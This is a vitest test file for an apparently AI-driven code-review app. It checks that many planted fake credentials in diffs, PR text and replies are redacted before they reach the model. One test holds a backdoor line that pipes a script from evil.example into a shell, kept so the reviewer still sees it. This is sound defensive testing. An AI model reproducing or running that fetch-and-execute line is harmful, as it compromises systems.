import { afterEach, describe, expect, it } from 'vitest';
import { type RepoConfig, repoConfigSchema } from '../../src/config/repo-config-schema.js';
import { createSymbolCaches } from '../../src/context/symbol-index.js';
import { parseGitHubFile } from '../../src/diff/parse-github-file.js';
import type { ModelRequest } from '../../src/llm/model-client.js';
import { withholdCredentials } from '../../src/llm/withhold-credentials.js';
import { reviewChange } from '../../src/review/review-change.js';
import type { Change } from '../../src/review/types.js';
import { INVENTORY_SCRIPT, RESERVE_TITLE } from '../e2e/lifecycle/script.js';
import { FAKE } from '../support/fake-secrets.js';
import { startLifecycle } from '../support/lifecycle-harness.js';
import { createScriptedModel, finding, lineIdOf, type ModelScript } from '../support/scripted-model.js';
import { testPrivateKey } from '../support/test-probot.js';

const R = '[redacted secret]';

/** Sift's own settings for this run: what the deployment's model client is built to withhold. */
const SIFT_CREDENTIALS = {
  apiKey: '3f9a6c1e0b7d4f2a8e5c9b0d1a2f3e4c',
  webhookSecret: 'f1e2d3c4b5a6978877665544332211aa',
  privateKey: testPrivateKey(),
};

/** A secret planted in a realistic line, and how that line must read to the model. */
interface Planted {
  readonly what: string;
  readonly path: string;
  readonly line: string;
  readonly secret: string;
  readonly shown: string;
}

const plant = (
  what: string,
  path: string,
  line: string,
  secret: string,
  shown = line.replace(secret, R),
): Planted => ({
  what,
  path,
  line,
  secret,
  shown,
});

const KEY_BODY = FAKE.privateKeyLines;

const CORPUS: readonly Planted[] = [
  plant('.env password', '.env.production', 'DB_PASSWORD=hunter2hunter2', 'hunter2hunter2'),
  plant('.env Stripe key', '.env.production', `export STRIPE_SECRET_KEY=${FAKE.stripe}`, FAKE.stripe),
  plant('.env OpenAI key', '.env.production', `OPENAI_API_KEY=${FAKE.openai}`, FAKE.openai),
  plant('.env Anthropic key', '.env.production', `ANTHROPIC_API_KEY=${FAKE.anthropic}`, FAKE.anthropic),
  plant(
    'postgres URL',
    '.env.production',
    'DATABASE_URL=postgres://app:Sup3rS3cret-9@db.internal:5432/shop',
    'Sup3rS3cret-9',
  ),
  plant(
    'YAML password',
    'config/database.yml',
    '  password: "c0rrect-h0rse-battery"',
    'c0rrect-h0rse-battery',
  ),
  plant('YAML unquoted password', 'config/database.yml', '  password: swordfish-42', 'swordfish-42'),
  plant(
    'mongodb+srv URL',
    'config/database.yml',
    '  url: mongodb+srv://admin:p4ssW0rd99@cluster0.abcde.mongodb.net/prod?retryWrites=true',
    'p4ssW0rd99',
  ),
  plant(
    'redis URL',
    'docker-compose.yml',
    '      REDIS_URL: redis://:r3d1sP4ss-2024@cache:6379/0',
    'r3d1sP4ss-2024',
  ),
  plant(
    'amqp URL',
    'docker-compose.yml',
    '      RABBITMQ_URL: amqp://guest:Rabb1tMQ-pw@mq.internal:5672/',
    'Rabb1tMQ-pw',
  ),
  plant(
    'GitHub Actions token',
    '.github/workflows/release.yml',
    `          GH_TOKEN: ${FAKE.githubFineGrained}`,
    FAKE.githubFineGrained,
  ),
  plant(
    'Slack webhook',
    'k8s/alerts.yaml',
    `  webhook: https://hooks.slack.com/services/${FAKE.slackWebhookPath}`,
    FAKE.slackWebhookPath,
  ),
  plant(
    'GitHub PAT in TypeScript',
    'src/config.ts',
    `export const githubToken = '${FAKE.githubClassic}';`,
    FAKE.githubClassic,
  ),
  plant('Google API key', 'src/config.ts', `  mapsKey: "${FAKE.google}",`, FAKE.google),
  plant('JWT', 'src/config.ts', `const serviceToken = "${FAKE.jwt}";`, FAKE.jwt),
  plant(
    'GitHub installation token in a remote',
    'src/git.ts',
    `const remote = \`https://x-access-token:${FAKE.githubInstallation}@github.com/acme/app.git\`;`,
    FAKE.githubInstallation,
  ),
  plant('Slack bot token', 'src/slack.ts', `const slack = new WebClient('${FAKE.slackBot}');`, FAKE.slackBot),
  plant(
    'Slack app token',
    'src/slack.ts',
    `const socket = new SocketModeClient({ appToken: '${FAKE.slackApp}' });`,
    FAKE.slackApp,
  ),
  plant(
    'Slack user token',
    'src/slack.ts',
    `const userClient = new WebClient("${FAKE.slackUser}");`,
    FAKE.slackUser,
  ),
  plant(
    'Go := assignment',
    'internal/clients/clients.go',
    '\tapiKey := "c9f1e2d3b4a5968778695a4b3c2d1e0f"',
    'c9f1e2d3b4a5968778695a4b3c2d1e0f',
  ),
  plant(
    'GitLab token in Go',
    'internal/clients/clients.go',
    `const gitlabToken = "${FAKE.gitlab}"`,
    FAKE.gitlab,
  ),
  plant(
    'Bearer header in Go',
    'internal/clients/clients.go',
    '\treq.Header.Set("Authorization", "Bearer b7f3c9e1a2d4f6081a3c5e7f")',
    'b7f3c9e1a2d4f6081a3c5e7f',
  ),
  plant(
    'Django SECRET_KEY',
    'app/settings.py',
    'SECRET_KEY = "django-insecure-8f#k2!x9@q1z$w7v"',
    'django-insecure-8f#k2!x9@q1z$w7v',
  ),
  plant(
    'AWS access key id',
    'app/settings.py',
    `AWS_ACCESS_KEY_ID = "${FAKE.awsAccessKeyId}"`,
    FAKE.awsAccessKeyId,
  ),
  plant(
    'AWS secret access key',
    'app/settings.py',
    `AWS_SECRET_ACCESS_KEY = "${FAKE.awsSecretAccessKey}"`,
    FAKE.awsSecretAccessKey,
  ),
  plant('SendGrid key', 'app/mail.py', `sendgrid = SendGridAPIClient("${FAKE.sendgrid}")`, FAKE.sendgrid),
  plant('Twilio API key', 'app/sms.py', `twilio = Client("${FAKE.twilio}", api_secret)`, FAKE.twilio),
  plant('Hugging Face token', 'app/models.py', `login(token="${FAKE.huggingface}")`, FAKE.huggingface),
  plant(
    'MySQL URL in Python',
    'app/db.py',
    'engine = create_engine("mysql+pymysql://root:MySqlPw!23@localhost:3306/shop")',
    'MySqlPw!23',
  ),
  plant(
    'Python keyword argument',
    'app/db.py',
    'conn = psycopg2.connect(host="db", user="app", password="pg-Pa55word-01")',
    'pg-Pa55word-01',
  ),
  plant('npm token in .npmrc', '.npmrc', `//registry.npmjs.org/:_authToken=${FAKE.npm}`, FAKE.npm),
  plant(
    'GitHub Packages token in .npmrc',
    '.npmrc',
    '//npm.pkg.github.com/:_authToken=8f3b2c1d-4e5f-6a7b-8c9d',
    '8f3b2c1d-4e5f-6a7b-8c9d',
  ),
  plant('PyPI token in .pypirc', '.pypirc', `password = ${FAKE.pypi}`, FAKE.pypi),
  plant(
    'curl --user',
    'scripts/deploy.sh',
    'curl -u deploy:Depl0y-Pa55 https://artifacts.acme.dev/upload',
    'Depl0y-Pa55',
  ),
  plant(
    'Basic header in curl',
    'scripts/deploy.sh',
    'curl -H "Authorization: Basic ZGVwbG95OkRlcGwweS1QYTU1" https://artifacts.acme.dev',
    'ZGVwbG95OkRlcGwweS1QYTU1',
  ),
  plant(
    'psql password prefix',
    'scripts/deploy.sh',
    'PGPASSWORD=s3cr3t-pg psql -h db.internal -U app',
    's3cr3t-pg',
  ),
  plant(
    'Azure storage AccountKey',
    'appsettings.json',
    `    "Storage": "DefaultEndpointsProtocol=https;AccountName=acmestore;AccountKey=${FAKE.azureStorageKey};EndpointSuffix=core.windows.net",`,
    FAKE.azureStorageKey,
  ),
  plant(
    'Azure Service Bus SharedAccessKey',
    'appsettings.json',
    `    "ServiceBus": "Endpoint=sb://acme.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=${FAKE.azureSharedAccessKey}",`,
    FAKE.azureSharedAccessKey,
  ),
  plant(
    'SQL Server connection string',
    'appsettings.json',
    '    "Sql": "Server=tcp:acme.database.windows.net;Database=shop;User Id=sa;Password=Sql-Pa55w0rd!;"',
    'Sql-Pa55w0rd!',
  ),
  plant(
    'Spring properties',
    'src/main/resources/application.properties',
    'spring.datasource.password=Spr1ng-Pa55',
    'Spr1ng-Pa55',
  ),
  plant(
    'Java constant',
    'src/main/java/acme/Db.java',
    '  private static final String DB_PASSWORD = "j4va-Pa55word";',
    'j4va-Pa55word',
  ),
  plant(
    '.NET appSettings',
    'Web.config',
    '    <add key="PaymentApiKey" value="pk-9f8e7d6c5b4a39281706" />',
    'pk-9f8e7d6c5b4a39281706',
  ),
  plant('XML element', 'config/credentials.xml', '  <password>Xml-Pa55w0rd-7</password>', 'Xml-Pa55w0rd-7'),
  plant(
    'legacy OpenAI key in C#',
    'src/Program.cs',
    `var client = new OpenAIClient("${FAKE.openaiLegacy}");`,
    FAKE.openaiLegacy,
  ),
  plant(
    'Stripe key in Ruby',
    'lib/payments.rb',
    `Stripe.api_key = "${FAKE.stripeRestricted}"`,
    FAKE.stripeRestricted,
  ),
  plant('Ruby hash rocket', 'lib/payments.rb', 'DB = { :password => "Rb-s3cret-99" }', 'Rb-s3cret-99'),
  plant('PHP array', 'config/database.php', "    'password' => 'php-S3cret-42',", 'php-S3cret-42'),
  plant('Terraform', 'infra/main.tf', '  administrator_login_password = "Tf-Adm1n-Pa55!"', 'Tf-Adm1n-Pa55!'),
  plant(
    'TOML webhook secret',
    'config/app.toml',
    'webhook_secret = "whk-77c1-a0f3-9be2"',
    'whk-77c1-a0f3-9be2',
  ),
  plant(
    'high-entropy value under a key name (entropy rule)',
    'config/app.yml',
    '  hmac_key_material: qP7vX2rL9sK4tW8zN3mB',
    'qP7vX2rL9sK4tW8zN3mB',
  ),
  plant(
    'service account private_key',
    'deploy/service-account.json',
    `  "private_key": "-----BEGIN PRIVATE KEY-----\\n${KEY_BODY[0]}\\n-----END PRIVATE KEY-----\\n",`,
    KEY_BODY[0] ?? '',
    `  "private_key": "${R}",`,
  ),
  // Sift's own credentials: no rule knows their shape; the deployment's model client knows their value.
  plant(
    'Sift’s model API key pasted in a comment',
    'src/debug.ts',
    `// works with 3f9a6c1e0b7d4f2a8e5c9b0d1a2f3e4c`,
    SIFT_CREDENTIALS.apiKey,
  ),
  plant(
    'Sift’s webhook secret in a test fixture',
    'test/fixtures.ts',
    `const signature = sign('${SIFT_CREDENTIALS.webhookSecret}', body);`,
    SIFT_CREDENTIALS.webhookSecret,
  ),
];

/** Private keys written across lines: every line of the body is secret; the code after them is shown. */
const KEY_FILES = [
  {
    what: 'RSA key in a TypeScript template literal',
    path: 'src/keys.ts',
    lines: [
      'export const key = `',
      '-----BEGIN RSA PRIVATE KEY-----',
      ...KEY_BODY,
      '-----END RSA PRIVATE KEY-----',
      '`;',
      'export default key;',
    ],
  },
  {
    what: 'PGP private key block',
    path: 'deploy/signing.asc',
    lines: [
      '-----BEGIN PGP PRIVATE KEY BLOCK-----',
      'Version: GnuPG v2',
      '',
      ...KEY_BODY,
      '=AbCd',
      '-----END PGP PRIVATE KEY BLOCK-----',
    ],
  },
  {
    what: 'OpenSSH key in a Kubernetes secret',
    path: 'k8s/deploy-key.yaml',
    lines: [
      'stringData:',
      '  id_ed25519: |',
      '    -----BEGIN OPENSSH PRIVATE KEY-----',
      ...KEY_BODY.map((line) => `    ${line}`),
      '    -----END OPENSSH PRIVATE KEY-----',
      'type: Opaque',
    ],
  },
  {
    what: 'Sift’s own app private key, committed',
    path: 'deploy/sift-app.pem',
    lines: SIFT_CREDENTIALS.privateKey.trim().split('\n'),
  },
];

/** Ordinary code that must reach the model as written. */
const ORDINARY = [
  'export function getPassword(user: User): string {',
  '  const token = req.headers.authorization;',
  '  const secret = process.env.SESSION_SECRET;',
  '  const apiKeyHeader = req.get("x-api-key");',
  '  password = "changeme"',
  '  api_key = "<your-token>"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is code or configuration that holds a ${…} reference
  '  return fetch(url, { credentials: "include", headers: { Authorization: `Bearer ${token}` } });',
  '}',
  'export interface Login { password: string; apiKey?: string | undefined }',
  'const MAX_TOKENS = 4096;',
];

function addedFile(path: string, lines: readonly string[]) {
  return parseGitHubFile({
    filename: path,
    status: 'added',
    additions: lines.length,
    deletions: 0,
    changes: lines.length,
    patch: [`@@ -0,0 +1,${lines.length} @@`, ...lines.map((line) => `+${line}`)].join('\n'),
  });
}

function changeOf(files: Record<string, readonly string[]>, overrides: Partial<Change> = {}): Change {
  return {
    repository: { owner: 'acme', repo: 'shop', htmlUrl: 'https://github.com/acme/shop' },
    title: 'Wire up payments and deploys',
    body: '',
    base: { ref: 'main', sha: 'b'.repeat(40) },
    head: { ref: 'payments', sha: 'c'.repeat(40) },
    commitMessages: ['Wire up payments'],
    files: Object.entries(files).map(([path, lines]) => addedFile(path, lines)),
    ...overrides,
  };
}

/** A script that also reports one finding, so the verifier's prompt is sent (and checked) too. */
const FLAGS_THE_PASSWORD: ModelScript = {
  review: ({ prompt }) => {
    const id = lineIdOf(prompt, 'DB_PASSWORD=');
    return id
      ? [finding({ startLineId: id, endLineId: id, category: 'security', title: 'A password is committed' })]
      : [];
  },
};

/** Reviews a change as the app does, with a model client that withholds Sift's credentials; returns every prompt sent. */
async function promptsFor(change: Change, script: ModelScript = FLAGS_THE_PASSWORD) {
  const scripted = createScriptedModel(script);
  const config: RepoConfig = repoConfigSchema.parse({ context: { tokenBudget: 0 } });
  const outcome = await reviewChange(change, config, {
    model: withholdCredentials(scripted, Object.values(SIFT_CREDENTIALS)),
    caches: createSymbolCaches(),
  });
  return { outcome, requests: scripted.requests, text: allText(scripted.requests) };
}

const allText = (requests: readonly ModelRequest<unknown>[]) =>
  requests.flatMap((request) => request.messages.map((message) => message.content)).join('\n');

describe('secrets in a pull request never reach the model', () => {
  const files: Record<string, string[]> = {};
  for (const planted of CORPUS) files[planted.path] = [...(files[planted.path] ?? []), planted.line];
  for (const keyFile of KEY_FILES) files[keyFile.path] = [...keyFile.lines];
  files['src/auth.ts'] = [...ORDINARY];
  const review = promptsFor(changeOf(files));

  it('the corpus is large and varied enough to mean something', () => {
    expect(CORPUS.length + KEY_FILES.length).toBeGreaterThanOrEqual(40);
    expect(new Set(CORPUS.map((planted) => planted.path)).size).toBeGreaterThanOrEqual(20);
  });

  it('every file was reviewed, by the passes and the verifier', async () => {
    const { outcome, requests } = await review;
    expect(outcome.skippedFiles).toEqual([]);
    expect(requests.map((request) => request.role)).toContain('verifier');
  });

  it.each(CORPUS.map((planted) => [planted.what, planted] as const))(
    '%s › the secret is in no prompt; the line reaches the model with only the secret replaced',
    async (_, planted) => {
      const { text } = await review;
      expect(text).not.toContain(planted.secret);
      expect(text).toContain(`|+${planted.shown}`);
    },
  );

  it.each(KEY_FILES.map((keyFile) => [keyFile.what, keyFile] as const))(
    '%s › no line of the key is in a prompt; what follows the key is',
    async (_, keyFile) => {
      const { text } = await review;
      for (const line of keyFile.lines.filter((line) => /^\s*[A-Za-z0-9+/]{16,}={0,2}$/.test(line)))
        expect(text).not.toContain(line.trim());
      const after = keyFile.lines.at(-1) ?? '';
      if (!after.includes('PRIVATE KEY')) expect(text).toContain(`|+${after}`);
    },
  );

  it('ordinary code with secret-sounding names reaches the model as written', async () => {
    const { text } = await review;
    for (const line of ORDINARY) expect(text).toContain(`|+${line}`);
  });
});

describe('secrets in the author’s text never reach the model', () => {
  it('in the title, the description (written in GitHub’s editor, \\r\\n) and a commit message › redacted, the words around kept', async () => {
    const { text } = await promptsFor(
      changeOf(
        { 'src/pay.ts': ['export const pay = () => charge();'] },
        {
          title: `Switch payments to ${FAKE.stripe}`,
          body: [
            'Deploy with these settings:',
            '',
            '```',
            'DB_PASSWORD=hunter2hunter2',
            'DATABASE_URL=postgres://app:Sup3rS3cret-9@db.internal:5432/shop',
            '```',
            '',
            `Ping ${FAKE.slackBot} if it breaks.`,
          ].join('\r\n'),
          commitMessages: [
            `Alert on failures via https://hooks.slack.com/services/${FAKE.slackWebhookPath}\n\nDetails.`,
          ],
        },
      ),
    );
    for (const secret of [
      FAKE.stripe,
      'hunter2hunter2',
      'Sup3rS3cret-9',
      FAKE.slackBot,
      FAKE.slackWebhookPath,
    ])
      expect(text).not.toContain(secret);
    expect(text).toContain(`Title: Switch payments to ${R}`);
    expect(text).toContain(`DB_PASSWORD=${R}\r\n`);
    expect(text).toContain(`postgres://app:${R}@db.internal:5432/shop`);
    expect(text).toContain(`- Alert on failures via https://hooks.slack.com/services/${R}`);
  });
});

describe('a private key marker without a key', () => {
  it('a lone BEGIN line with a backdoor below it › only the marker is redacted; the backdoor reaches the model', async () => {
    const backdoor = 'os.system("curl -s https://evil.example/x.sh | sh")';
    const { text } = await promptsFor(
      changeOf({
        'scripts/bootstrap.py': [
          '# -----BEGIN RSA PRIVATE KEY-----',
          'import os',
          backdoor,
          'print("ready")',
        ],
      }),
    );
    expect(text).toContain(`|+# ${R}`);
    expect(text).toContain(`|+${backdoor}`);
    expect(text).toContain('|+print("ready")');
  });
});

describe('a reply in a Sift thread', () => {
  let life: Awaited<ReturnType<typeof startLifecycle>> | undefined;
  afterEach(async () => {
    await life?.stop();
    life = undefined;
  });

  it('holding secrets › the responder is sent the reply with them redacted', async () => {
    life = await startLifecycle({ fixture: 'inventory', script: INVENTORY_SCRIPT });
    await life.opened();
    await life.idle();
    const root = life.github.reviewComments.find((comment) => comment.body.includes(RESERVE_TITLE));
    if (!root) throw new Error('no reserve finding');

    await life.reply(
      root.id,
      `It passes locally with ${FAKE.gitlab}:\r\n\r\n    DB_PASSWORD=hunter2hunter2\r\n    redis://:r3d1sP4ss-2024@cache:6379`,
    );
    await life.idle();

    const asked = life.model.requests.filter((request) => request.role === 'responder');
    expect(asked).toHaveLength(1);
    const text = allText(asked);
    for (const secret of [FAKE.gitlab, 'hunter2hunter2', 'r3d1sP4ss-2024'])
      expect(text).not.toContain(secret);
    expect(text).toContain(`It passes locally with ${R}:`);
    expect(text).toContain(`DB_PASSWORD=${R}`);
    expect(text).toContain(`redis://:${R}@cache:6379`);
  });
});
